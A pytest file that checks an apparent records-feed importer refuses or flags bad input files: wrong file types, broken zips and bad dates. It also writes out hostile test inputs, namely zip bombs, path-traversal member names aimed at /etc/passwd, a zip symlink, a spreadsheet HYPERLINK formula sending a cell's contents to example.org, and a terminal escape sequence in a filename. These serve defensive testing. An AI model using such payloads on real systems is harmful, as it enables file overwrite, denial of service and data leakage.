"""What should never have been sent: each has a clear fault, and nothing beside it is lost."""

from __future__ import annotations

import csv
import io
import os
import struct
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest

from feeding import Told, table, tell
from throughline.feeds import csv_layouts, sources
from throughline.feeds.base import REFUSED, REPEATED, USED, Context, Fault, FileRead
from throughline.feeds.csv_layouts import FEEDS
from throughline.feeds.files import FileSource
from throughline.feeds.layouts import layouts
from throughline.feeds.reading import read_with

GOOD = table("missing_police", {"missing_since": "2026-01-17", "surname": "Quill"})


@pytest.fixture
def beside(tmp_path: Path) -> Path:
    """A folder with one good file, which must be read whatever else lies there."""
    (tmp_path / "good.csv").write_text(GOOD)
    return tmp_path


def said(told: Told, rule: str) -> Fault:
    """The one fault of that rule, the good file having been read and every row accounted for."""
    assert [s.outcome for s in told.statements if s.file == "good.csv"] == [USED]
    for read in told.files:
        assert read.rows == len([s for s in told.statements if s.file == read.file])
    return told.fault(rule)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("report.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(range(256)) * 9),
        ("photo.csv", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 9),
        ("page.csv", b"<!DOCTYPE html><html><body>Please sign in</body></html>"),
        ("empty.csv", b""),
        ("nothing.csv", b"\n\n\n"),
        ("zeros.csv", b"\0" * 9000),
        ("list.json", b'[{"missing_since": "2026-01-17"}]'),
    ],
)
def test_a_wrong_type_of_file_is_named_for_what_it_is(beside: Path, name: str, content: bytes) -> None:
    (beside / name).write_bytes(content)
    told = tell(beside)
    fault = said(told, "file-not-recognised")
    assert (fault.file, fault.severity, fault.row) == (name, "query", 0)
    assert fault.message.startswith("This is ")


def packed(path: Path, **members: str) -> bytes:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in members.items():
            archive.writestr(name, text)
    return path.read_bytes()


def test_a_zip_cut_short_is_said_and_not_half_read(beside: Path) -> None:
    whole = packed(beside / "x.zip", a=table("suspensions", {"category": "SUSP", "start_date": "2026-01-19"}))
    (beside / "x.zip").write_bytes(whole[: len(whole) // 2])
    fault = said(tell(beside), "zip-broken")
    assert (fault.file, fault.severity) == ("x.zip", "error")


def test_a_zip_whose_bytes_were_damaged_keeps_what_was_read_before(beside: Path) -> None:
    rows = [{"source_record_id": f"R{n}", "missing_since": "2026-01-17", "disclosures": "é" * n} for n in range(3000)]
    with zipfile.ZipFile(beside / "x.zip", "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("x.csv", table("missing_police", *rows))
    whole = bytearray((beside / "x.zip").read_bytes())
    whole[len(whole) - 2000] ^= 1
    (beside / "x.zip").write_bytes(whole)
    told = tell(beside)
    fault = said(told, "file-cut-short")
    kept = [s for s in told.statements if s.file == "x.zip/x.csv"]
    assert fault.file == "x.zip/x.csv"
    assert 0 < len(kept) < 3000


def test_a_zip_bomb_is_refused_by_its_ratio_its_size_and_its_count(
    beside: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    packed(beside / "ratio.zip", **{"a.csv": "a,b\n" + "1,1\n" * 2_000_000})
    assert "times its size" in said(tell(beside), "zip-bomb").message
    (beside / "ratio.zip").unlink()

    monkeypatch.setattr(sources, "MOST_BYTES", 100)
    packed(beside / "size.zip", a="x" * 101)
    assert "bytes" in said(tell(beside), "zip-bomb").message
    (beside / "size.zip").unlink()

    monkeypatch.setattr(sources, "MOST_MEMBERS", 3)
    packed(beside / "count.zip", a="1", b="2", c="3", d="4")
    assert "4 files" in said(tell(beside), "zip-bomb").message


def test_a_bomb_among_honest_members_is_refused_alone(beside: Path) -> None:
    noise = "".join(f"{n * 7919 % 104729},{n}\n" for n in range(120_000))
    packed(
        beside / "x.zip",
        **{"bomb.csv": "a,b\n" + "1,1\n" * 1_000_000, "noise.csv": noise, "ok.csv": GOOD.replace("R1", "R2")},
    )
    told = tell(beside)
    assert said(told, "zip-bomb").file == "x.zip/bomb.csv"
    assert [s.outcome for s in told.statements if s.file == "x.zip/ok.csv"] == [USED]


def test_a_zip_that_lies_about_its_sizes_is_not_believed(beside: Path) -> None:
    whole = bytearray(packed(beside / "x.zip", **{"x.csv": GOOD.replace("R1", "R2") * 200}))
    central = whole.rindex(b"PK\x01\x02")
    whole[central + 24 : central + 28] = struct.pack("<I", 900)  # declares 900 bytes unpacked
    (beside / "x.zip").write_bytes(whole)
    said(tell(beside), "file-cut-short")


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "C:\\x.csv", "a/../../x.csv"])
def test_a_member_whose_path_leads_out_of_the_zip_is_not_opened(beside: Path, name: str) -> None:
    packed(beside / "x.zip", **{name: GOOD})
    assert said(tell(beside), "zip-path").severity == "error"
    assert not (beside.parent / "etc").exists()


def test_a_link_inside_a_zip_is_not_followed(beside: Path) -> None:
    info = zipfile.ZipInfo("link.csv")
    info.external_attr = 0o120777 << 16
    with zipfile.ZipFile(beside / "x.zip", "w") as archive:
        archive.writestr(info, "/etc/passwd")
    said(tell(beside), "zip-link")


def test_a_locked_zip_is_said_to_be_locked(beside: Path) -> None:
    whole = bytearray(packed(beside / "x.zip", a=GOOD))
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        whole[whole.index(mark) + flags] |= 1
    (beside / "x.zip").write_bytes(whole)
    assert "password" in said(tell(beside), "zip-encrypted").message


def test_a_zip_in_a_zip_is_said_and_left_closed(beside: Path) -> None:
    inner = packed(beside / "inner.zip", a=GOOD)
    (beside / "inner.zip").unlink()
    with zipfile.ZipFile(beside / "x.zip", "w") as archive:
        archive.writestr("inner.zip", inner)
    assert said(tell(beside), "file-not-recognised").file == "x.zip/inner.zip"


class EndlessLine(io.RawIOBase):
    """A file of two good lines and then one of two thousand million bytes, made as it is read."""

    def __init__(self, start: bytes, size: int) -> None:
        self.start, self.left = start, size
        self.given = 0

    def readable(self) -> bool:
        return True

    def read(self, n: int = -1) -> bytes:
        assert n > 0, "nobody may ask for all of it"
        chunk = self.start[:n] if self.start else b"x" * min(n, self.left)
        self.start = self.start[len(chunk) :]
        self.left -= len(chunk)
        self.given += len(chunk)
        return chunk


def test_a_line_of_two_gigabytes_stops_the_file_at_that_line_and_is_not_held() -> None:
    opened: list[EndlessLine] = []

    def open_() -> EndlessLine:
        opened.append(EndlessLine(GOOD.encode(), 2 << 30))
        return opened[-1]

    found = FileSource("long.csv", 2 << 30, open_)  # type: ignore[arg-type]
    told = Told(read_with(FEEDS, [found], Context(date(2026, 3, 31))))
    fault = told.fault("line-too-long")
    assert (fault.file, fault.row) == ("long.csv", 3)
    assert told.outcomes == {USED: 1}
    assert sum(file.given for file in opened) < 8 << 20
    assert told.files == [FileRead("long.csv", "missing_police", "missing_police", 1, "")]


def test_a_quotation_mark_never_closed_costs_only_what_follows_it(beside: Path) -> None:
    text = table("missing_police", *({"source_record_id": f"Q{n}", "missing_since": "2026-01-17"} for n in range(9)))
    (beside / "open.csv").write_text(text.replace("Q6,P1,", 'Q6,"P1,'))
    told = tell(beside)
    fault = said(told, "quotation-open")
    assert fault.row == 8
    assert [s.record_id for s in told.statements if s.file == "open.csv"] == [f"Q{n}" for n in range(6)]


def test_mixed_encodings_and_a_mark_at_the_start_lose_no_name(beside: Path) -> None:
    first, second = (
        table(
            "missing_police",
            {"source_record_id": id, "source_person_id": id, "forename": name, "missing_since": "2026-01-17"},
        )
        for id, name in (("R2", "Zoë"), ("R3", "Siân"))
    )
    body = second.partition("\n")[2]
    (beside / "mixed.csv").write_bytes(b"\xef\xbb\xbf" + first.encode("utf-8") + body.encode("cp1252"))
    told = tell(beside)
    assert said(told, "encoding-mixed").row == 3
    assert {"Zoë", "Siân"} <= {person.forename for person in told.persons}


def test_a_column_given_twice_is_said_and_the_first_is_used(beside: Path) -> None:
    columns = [*layouts()["missing_police"].columns, "missing_since"]
    row = GOOD.splitlines()[1]
    (beside / "twice.csv").write_text(f"{','.join(columns)}\n{row.replace('R1', 'R2')},2020-01-01\n")
    told = tell(beside)
    assert said(told, "header-duplicate").column == "missing_since"
    assert {told.value("missing_since", n) for n in (0, 1)} == {"2026-01-17"}


def test_formulas_are_kept_as_text_and_never_worked_out(beside: Path) -> None:
    evil = '=HYPERLINK("http://example.org?"&A1,"open")'
    row = {"source_record_id": "R2", "source_person_id": "P2", "surname": evil, "missing_since": "2026-01-17"}
    (beside / "formula.csv").write_text(table("missing_police", row))
    told = tell(beside)
    assert said(told, "formula").severity == "query"
    assert evil in {person.surname for person in told.persons}


WRONG_DATES = {
    "32/03/2026": "date-unreadable",
    "2026-13-01": "date-unreadable",
    "2026-02-30": "date-unreadable",
    "03/04/2026": "date-order-unclear",
    "04/03/26": "date-two-digit-year",
    "46085": "date-serial",
    "1900-01-01": "date-placeholder",
    "17 Jan 2026": "date-unreadable",
    "yesterday": "date-unreadable",
}


@pytest.mark.parametrize(("text", "rule"), WRONG_DATES.items())
def test_a_date_of_a_wrong_kind_blanks_its_cell_and_says_which_kind(beside: Path, text: str, rule: str) -> None:
    row = {"source_record_id": "R2", "missing_since": "2026-01-17", "returned_at": text}
    (beside / "f.csv").write_text(table("missing_police", row))
    told = tell(beside)
    fault = said(told, rule)
    assert (fault.file, fault.row, fault.column, fault.value) == ("f.csv", 2, "returned_at", text)
    assert told.value("returned_at", 0) == ""
    assert REFUSED not in told.outcomes


@pytest.mark.parametrize("text", ["2026-01-19T25:10", "2026-01-19T2210", "2026-01-19 10pm", "2026-01-19T10:30+99:00"])
def test_a_time_in_an_odd_shape_costs_the_time_and_not_the_day(beside: Path, text: str) -> None:
    row = {"source_record_id": "R2", "missing_since": "2026-01-17", "returned_at": text}
    (beside / "f.csv").write_text(table("missing_police", row))
    told = tell(beside)
    assert said(told, "time-unreadable").value == text
    assert told.value("returned_at", 0) == "2026-01-19"


def test_the_same_file_twice_changes_nothing(beside: Path) -> None:
    (beside / "good (copy).csv").write_text(GOOD)
    told = tell(beside)
    assert told.outcomes == {USED: 1, REPEATED: 1}
    assert told.fault("file-repeated").file == "good.csv"
    assert len(told.persons) == 1


def test_a_folder_or_file_that_may_not_be_read_is_said(beside: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (beside / "locked.csv").write_text(GOOD)
    real = Path.open

    def refusing(path: Path, *args: object, **kwargs: object) -> object:
        if path.name == "locked.csv":
            raise PermissionError(13, "Permission denied")
        return real(path, *args, **kwargs)  # type: ignore[call-overload]

    monkeypatch.setattr(Path, "open", refusing)
    assert said(tell(beside), "file-unreadable").file == "locked.csv"


def test_a_file_name_that_is_not_text_can_still_be_written_down(beside: Path) -> None:
    Path(os.fsdecode(os.fsencode(beside) + b"/caf\xe9\x1b[2J.csv")).write_text(GOOD.replace("R1", "R2"))
    told = tell(beside)
    (name,) = {read.file for read in told.files} - {"good.csv"}
    assert name == "caf??[2J.csv"
    assert told.outcomes == {USED: 2}


def test_a_million_columns_or_rows_of_commas_are_only_slow_to_nobody(beside: Path) -> None:
    (beside / "wide.csv").write_text("," * 200_000 + "\n")
    (beside / "commas.csv").write_text(GOOD.splitlines()[0] + "\n" + ("," * 27 + "\n") * 20_000)
    told = tell(beside)
    assert said(told, "file-not-recognised").file == "wide.csv"
    assert [read.rows for read in told.files if read.file == "commas.csv"] == [0]


def test_no_fault_leaves_out_what_it_needs(beside: Path) -> None:
    """Every fault of a folder of all the wrongs together has the sector's shape and writes as a CSV row."""
    for n, text in enumerate(WRONG_DATES):
        row = {"source_record_id": f"R{n}", "missing_since": text, "upn": "x", "sex": "?", "category": "Z"}
        (beside / f"{n}.csv").write_text(table("missing_police", row))
    for fault in faults_of(beside):
        assert fault.file
        assert fault.rule
        assert fault.severity in {"error", "query", "repaired"}
        assert fault.message.endswith(".")
        assert fault.fix_by
        csv.writer(io.StringIO()).writerow(fault)


def faults_of(folder: Path) -> Iterator[Fault]:
    found = tell(folder).faults
    assert len(found) > 30
    yield from found


def test_the_feeds_are_known_by_id() -> None:
    assert [table for feed in csv_layouts.FEEDS for table in feed.tables] == list(layouts())
